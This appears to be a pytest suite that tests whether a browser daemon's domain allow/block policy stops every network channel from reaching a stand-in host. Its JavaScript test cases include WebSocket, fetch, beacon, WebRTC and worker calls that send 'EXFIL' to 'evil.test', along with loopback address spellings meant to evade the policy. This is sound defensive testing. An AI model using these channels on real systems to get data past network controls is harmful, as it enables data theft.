"""The domain policy against every way that a page has to another host; the host says what it saw.

Each way is run without a policy, too: a way that leads nowhere then would prove nothing.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from support.daemon import Daemon
from support.recording_origin import Page, RecordingOrigin
from support.waiting import wait_until

MakeDaemon = Callable[..., Daemon]
GOOD, EVIL = "good.localhost", "evil.test"

# In pages and workers: a WebSocket that sends, and says what it heard.
SOCKET = """
const openSocket = address => new Promise(done => {
  const socket = new WebSocket('ws://' + address + '/');
  socket.onopen = () => socket.send('EXFIL');
  socket.onmessage = event => done('heard ' + event.data);
  socket.onerror = () => done('refused'); });
"""
IN_WORKER = (
    SOCKET
    + """
const evil = new URL(self.location).searchParams.get('evil') || self.name;
const post = word => self.postMessage ? self.postMessage(word) : 0;
"""
)
SCRIPTS = {
    "/worker.js": "openSocket(evil).then(post);",
    "/nested.js": "new Worker('/worker.js?evil=' + evil).onmessage = e => post(e.data);",
    "/fetching.js": """fetch('http://' + evil, {mode: 'no-cors'}).catch(() => 0)
        .then(() => post(1));""",
    "/importing.js": "try { importScripts('http://' + evil) } catch {} post(1);",
    "/shared.js": "onconnect = e => openSocket(evil).then(word => e.ports[0].postMessage(word));",
    "/service.js": "oninstall = e => e.waitUntil(openSocket(evil));",
    "/service_fetch.js": """oninstall = e => e.waitUntil(
        fetch('http://' + evil, {mode: 'no-cors'}).catch(() => 0));""",
}


def pages(evil: str) -> dict[str, Page]:
    """Return what our own server has: scripts, and pages whose headers name the other host."""
    report = f"img-src 'none'; report-uri http://{evil}/report"
    return {
        "/": Page("<!doctype html><title>good</title><body>"),
        "/csp": Page("<img src=/x.png>", headers={"content-security-policy": report}),
        **{path: Page(IN_WORKER + code, "text/javascript") for path, code in SCRIPTS.items()},
    }


HELPERS = (
    SOCKET
    + """
const ended = (target, ...events) => new Promise(done =>
  events.forEach(name => target.addEventListener(name, () => done(name))));
const put = (name, fields, parent) => {
  const made = Object.assign(document.createElement(name), fields);
  (parent || document.body).append(made); return made; };
const loaded = (name, fields) => { const made = Object.assign(document.createElement(name), fields);
  const end = ended(made, 'load', 'error'); document.body.append(made); return end; };
// For what says nothing of its end: a while, as our own server's answers measure it.
const rounds = async (count = 30) => {
  for (let n = 0; n < count; n++) await fetch('/round?' + n); };
const worker = script => new Promise(done => {
  const made = new Worker(script.startsWith('/') ? script + '?evil=' + EVIL : script);
  made.onmessage = event => done(event.data); made.onerror = () => done('error'); });
const sharedWorker = script => new Promise(done => {
  const made = new SharedWorker(script + '?evil=' + EVIL);
  made.port.onmessage = event => done(event.data); });
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const install = async script => {
  const made = await navigator.serviceWorker.register(script + '?evil=' + EVIL).catch(() => 0);
  if (!made) return 'refused';
  const one = made.installing || made.waiting || made.active;
  while (one && one.state === 'installing') await ended(one, 'statechange');
  await made.unregister(); return 'installed'; };
const peer = async server => {
  const made = new RTCPeerConnection({iceServers: [server]});
  made.createDataChannel('x'); await made.setLocalDescription(await made.createOffer());
  while (made.iceGatheringState !== 'complete') await ended(made, 'icegatheringstatechange');
  const found = made.localDescription.sdp.match(/a=candidate[^\\r\\n]*/g) || [];
  made.close(); return found.join(' '); };
const frame = fields => loaded('iframe', fields).then(() => rounds());
const hint = fields => (put('link', fields, document.head), rounds());
const newFrame = () => put('iframe', {name: 'x' + Math.random()}).name;
const send = fields => fetch(THERE, {mode: 'no-cors', ...fields}).catch(() => 0);
const THERE = 'http://' + EVIL + '/there';
const LOGIN = {username: 'EXFIL', credential: 'x'};
const IN_PLACE = `(${openSocket})('${EVIL}').then(word => postMessage(word));`;
const PAGE = `<script>(${openSocket})('${EVIL}')</` + 'script>';
"""
)
# What each way is called, and the expression that goes it.
SOCKETS = {
    "websocket": "openSocket(EVIL)",
    "websocket with a final dot": "openSocket(EVIL.replace('.test', '.test.'))",
    "secure websocket": "ended(new WebSocket('wss://' + EVIL), 'error')",
    "websocket in a worker": "worker('/worker.js')",
    "websocket in a nested worker": "worker('/nested.js')",
    "websocket in a shared worker": "sharedWorker('/shared.js')",
    "websocket in a service worker": "install('/service.js')",
    "websocket in a blob worker": "worker(blobOf(IN_PLACE, 'text/javascript'))",
    "websocket in a data: worker": "worker('data:text/javascript,' + encodeURIComponent(IN_PLACE))",
    "websocket in a data: frame": "frame({src: 'data:text/html,' + encodeURIComponent(PAGE)})",
    "websocket in a srcdoc frame": "frame({srcdoc: PAGE})",
    "websocket in a sandboxed frame": "frame({sandbox: 'allow-scripts', srcdoc: PAGE})",
    "websocket in a blob frame": "frame({src: blobOf(PAGE, 'text/html')})",
}
PEERS_AND_HINTS = {
    "webtransport": "new WebTransport('https://' + EVIL).ready.catch(() => 0)",
    "stun over udp": "peer({urls: 'stun:' + EVIL})",
    "stun over udp to an address": "peer({urls: 'stun:127.0.0.1:' + EVIL.split(':')[1]})",
    "turn over udp": "peer({urls: 'turn:' + EVIL, ...LOGIN})",
    "turn over tcp": "peer({urls: 'turn:' + EVIL + '?transport=tcp', ...LOGIN})",
    "turn over tls": "peer({urls: 'turns:' + EVIL + '?transport=tcp', ...LOGIN})",
    "preconnect": "hint({rel: 'preconnect', href: THERE})",
    "dns-prefetch": "hint({rel: 'dns-prefetch', href: THERE})",
    "prefetch": "hint({rel: 'prefetch', href: THERE})",
    "preload": "hint({rel: 'preload', as: 'image', href: THERE})",
}
REQUESTS = {
    "navigation of a frame": "(put('iframe', {src: '/'}).contentWindow.location = THERE, rounds())",
    "navigation": "(setTimeout(() => location = THERE), rounds())",
    "pop-up": "(made => rounds().then(() => made && made.close()))(window.open(THERE))",
    "form": "(put('form', {action: THERE, method: 'POST', target: newFrame()}).submit(), rounds())",
    "frame": "frame({src: THERE})",
    "fetch": "send()",
    "fetch with keepalive": "send({method: 'POST', body: 'x', keepalive: true})",
    "fetch in a worker": "worker('/fetching.js')",
    "fetch in a service worker": "install('/service_fetch.js')",
    "redirect": "fetch('/redirect/' + EVIL, {mode: 'no-cors'}).catch(() => 0)",
    "importScripts": "worker('/importing.js')",
    "module import": "import(THERE).catch(() => 0)",
    "beacon": "(navigator.sendBeacon(THERE, 'x'), rounds())",
    "EventSource": "ended(new EventSource(THERE), 'error')",
    "image": "loaded('img', {src: THERE})",
    "style sheet": "loaded('link', {rel: 'stylesheet', href: THERE})",
    "font": "new FontFace('x', `url(${THERE})`).load().catch(() => 0)",
    "media": "ended(put('video', {src: THERE}), 'error')",
    "object": "loaded('object', {data: THERE})",
    "csp report": "frame({src: '/csp'})",
}
# It opens no connection by itself, with or without a policy.
SILENT = {"dns-prefetch"}
FLAGS = {"allow": ["--allow-domain", GOOD], "block": ["--block-domain", EVIL]}


def go(daemon: Daemon, good: RecordingOrigin, evil: RecordingOrigin, code: str) -> None:
    """Open a fresh page and go one way, until it ends or a while has gone."""
    daemon.do("navigate", url=f"http://{GOOD}:{good.port}/")
    whole = f"const EVIL = '{EVIL}:{evil.port}';{HELPERS}"
    whole += f"await Promise.race([{code}, rounds(60)]); 'gone'"
    daemon.call("javascript_tool", code=whole, timeout_ms=90_000)
    for tab in daemon.do("tabs_context")["tabs"][1:]:
        daemon.close_tab(tab["tab_id"])


# Every host is this machine, so that only the policy stands between them.
RULES = "--browser-arg=--host-resolver-rules=MAP evil.test 127.0.0.1, MAP evil.test. 127.0.0.1"


@pytest.mark.timeout(600)
@pytest.mark.parametrize("policy", ["allow", "block"])
@pytest.mark.parametrize("ways", [SOCKETS, PEERS_AND_HINTS, REQUESTS])
def test_no_way_leads_to_a_host_outside_the_policy(
    share_daemon: MakeDaemon, policy: str, ways: dict[str, str]
) -> None:
    """Not one connection and not one datagram has come when Chromium has ended."""
    with RecordingOrigin() as evil, RecordingOrigin(pages(f"{EVIL}:{evil.port}")) as good:
        came: dict[str, list[str]] = {}
        daemon = share_daemon("--isolated", RULES, *FLAGS[policy])
        for way, code in ways.items():
            go(daemon, good, evil, code)
            came[way] = evil.words
        browser = daemon.chromium()
        daemon.do("oc_stop")
        browser.wait_gone()
        assert {way: words for way, words in came.items() if words} == {}
        assert evil.words == []


@pytest.mark.timeout(600)
@pytest.mark.parametrize("ways", [SOCKETS, PEERS_AND_HINTS, REQUESTS])
def test_every_way_leads_there_without_a_policy(
    share_daemon: MakeDaemon, ways: dict[str, str]
) -> None:
    """So none of them is refused for a reason of its own."""
    daemon = share_daemon("--isolated", RULES)
    with RecordingOrigin() as evil, RecordingOrigin(pages(f"{EVIL}:{evil.port}")) as good:
        for way in sorted(set(ways) - SILENT):
            evil.seen.clear()
            go(daemon, good, evil, ways[way])
            evil.wait_seen()
            assert evil.seen, way


@pytest.mark.parametrize("policy", FLAGS)
def test_a_refused_socket_is_shown_as_blocked(share_daemon: MakeDaemon, policy: str) -> None:
    """`network` lists it among the page's requests, and says whose refusal it was."""
    daemon = share_daemon("--isolated", RULES, *FLAGS[policy])
    with RecordingOrigin(pages("")) as good:
        daemon.do("navigate", url=f"http://{GOOD}:{good.port}/")
        code = f"{SOCKET}; await openSocket('{EVIL}:81')"
        assert daemon.do("javascript_tool", code=code, timeout_ms=90_000)["content"] == "refused"

        def shown() -> list[str]:
            found = daemon.do("network")["requests"]
            return [one.get("blocked_reason", "") for one in found if one["url"].startswith("ws:")]

        wait_until(lambda: shown() == ["domain-policy"], 20, "the refused socket")


ADDRESS_FLAGS = {
    "allow": ["--allow-domain", GOOD],
    "block": [
        "--block-domain",
        "127.0.0.1",
        "--block-domain",
        "::1",
        "--block-domain",
        "localhost",
    ],
}
SPELLINGS = ("127.0.0.1", "localhost", "[::1]", "2130706433", "[::ffff:127.0.0.1]", "localhost.")


@pytest.mark.parametrize("policy", ADDRESS_FLAGS)
def test_addresses_and_loopback_are_hosts_like_others(policy: str) -> None:
    """A proxy's usual exception for loopback is none here, and an address has one meaning."""
    with RecordingOrigin() as evil, RecordingOrigin(pages("")) as good:
        with Daemon("--isolated", *ADDRESS_FLAGS[policy]) as daemon:
            daemon.do("navigate", url=f"http://{GOOD}:{good.port}/")
            for host in SPELLINGS:
                code = f"{SOCKET}; await openSocket('{host}:{evil.port}')"
                said = daemon.do("javascript_tool", code=code, timeout_ms=90_000)["content"]
                assert (host, said) == (host, "refused")
        assert evil.words == []


def test_crawls_and_workers_obey_too(make_daemon: MakeDaemon) -> None:
    """Their pages live in browser contexts of their own."""
    with RecordingOrigin() as evil, RecordingOrigin() as good:
        # What it says to its own server, it says when the other has answered or was refused.
        tries = f"openSocket('{EVIL}:{evil.port}').then(() => openSocket(location.host))"
        good.pages["/"] = Page(f"<title>x</title><script>{SOCKET}{tries}</script>")
        daemon = make_daemon(RULES, "--allow-domain", GOOD)
        url = f"http://{GOOD}:{good.port}/"
        found = daemon.do("crawl", url=url, engine="browser", max_pages=1, respect_robots=False)[
            "pages"
        ]
        assert [entry["url"] for entry in found] == [url]
        good.seen.clear()
        daemon.do("worker", action="create", name="apart", url=url)
        wait_until(lambda: "Upgrade: websocket" in "".join(good.words), 30, "the second socket")
        assert evil.words == []


def test_a_changed_policy_holds_for_sockets_too(make_daemon: MakeDaemon) -> None:
    """Chromium starts again with the rules of the edited file."""
    with RecordingOrigin() as evil, RecordingOrigin(pages("")) as good:
        daemon = make_daemon(RULES)
        url = f"http://{GOOD}:{good.port}/"
        code = f"{SOCKET}; await openSocket('{EVIL}:{evil.port}')"

        def said() -> object:
            opened = daemon.call("navigate", url=url)
            ran = daemon.call("javascript_tool", code=code, timeout_ms=90_000)
            return ran.body["result"]["content"] if (opened.status, ran.status) == (200, 200) else 0

        assert said() == "heard hello"
        first = daemon.status()["browser"]["generation"]
        daemon.home.write_config(f'block_domain = ["{EVIL}"]\n')
        wait_until(lambda: said() == "refused", 40, "the block")
        evil.seen.clear()
        assert said() == "refused"
        assert evil.words == []
        daemon.home.write_config("")
        wait_until(lambda: said() == "heard hello", 40, "the block's end")
        assert daemon.status()["browser"]["generation"] > first
